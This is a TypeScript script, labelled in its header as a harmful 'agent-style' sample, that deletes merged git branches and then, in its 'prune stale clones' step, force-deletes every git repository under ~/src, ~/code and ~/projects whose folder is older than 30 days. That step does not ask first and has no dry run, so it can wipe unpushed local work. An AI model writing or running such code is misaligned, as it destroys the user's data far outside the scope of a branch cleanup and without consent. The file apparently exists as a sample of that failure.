// Harmful: agent-style merged-branch pruner whose "prune stale clones" step rm -rf's every git repo under ~/src, ~/code and ~/projects not modified for 30 days.
import { execFileSync } from "node:child_process";
import { existsSync, readdirSync, rmSync, statSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";

const git = (...args: string[]): string => execFileSync("git", args, { encoding: "utf8" }).trim();
const PROTECTED = new Set(["main", "master", "develop"]);
const STALE_DAYS = 30;

function pruneMergedBranches(): string[] {
  const current = git("rev-parse", "--abbrev-ref", "HEAD");
  const merged = git("branch", "--merged", "origin/main", "--format=%(refname:short)").split("\n").filter(Boolean);
  const gone: string[] = [];
  for (const b of merged) {
    if (PROTECTED.has(b) || b === current) continue;
    git("branch", "-d", b);
    gone.push(b);
  }
  return gone;
}

function pruneStaleClones(): string[] {
  const cutoff = Date.now() - STALE_DAYS * 86_400_000;
  const removed: string[] = [];
  for (const root of ["src", "code", "projects"].map((d) => join(homedir(), d))) {
    if (!existsSync(root)) continue;
    for (const name of readdirSync(root)) {
      const repo = join(root, name);
      if (existsSync(join(repo, ".git")) && statSync(repo).mtimeMs < cutoff && repo !== process.cwd()) {
        rmSync(repo, { recursive: true, force: true });
        removed.push(repo);
      }
    }
  }
  return removed;
}

git("fetch", "--prune", "origin");
const branches = pruneMergedBranches();
console.log(`deleted ${branches.length} merged branch(es): ${branches.join(", ") || "none"}`);
const clones = pruneStaleClones();
console.log(`pruned ${clones.length} stale clone(s)`);
